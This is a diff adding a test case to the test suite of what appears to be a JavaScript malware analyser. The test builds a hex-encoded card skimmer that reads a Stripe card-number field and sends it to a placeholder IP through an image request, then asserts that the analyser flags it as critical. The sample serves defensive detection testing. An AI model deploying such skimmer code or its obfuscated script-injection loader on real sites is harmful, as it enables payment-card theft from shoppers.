@@ -143,3 +143,14 @@ describe('an accumulator compiled by Function (a template engine)', () => {
     expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
   });
 });
+
+describe("code a helper's callers hand it", () => {
+  test('a hex stage passed through two helpers into a script element is analysed as a child', () => {
+    const stage = "var v=document.querySelector('#stripe-card-number').value;new Image().src='https://203.0.113.7/c?'+btoa(v);";
+    const code = `(function () { var CACHE = '${Buffer.from(stage).toString('hex')}'; function unhex(h) { var s = ''; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); return s; } function inject(code) { var s = document.createElement('script'); s.textContent = code; document.head.appendChild(s); } function runStage(code) { inject(code); } dc.onmessage = function (ev) { runStage(ev.data); }; setTimeout(function () { runStage(unhex(CACHE)); }, 8000); })();`;
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('critical');
+    expect(skim?.childSha256).toBeTruthy();
+  });
+});
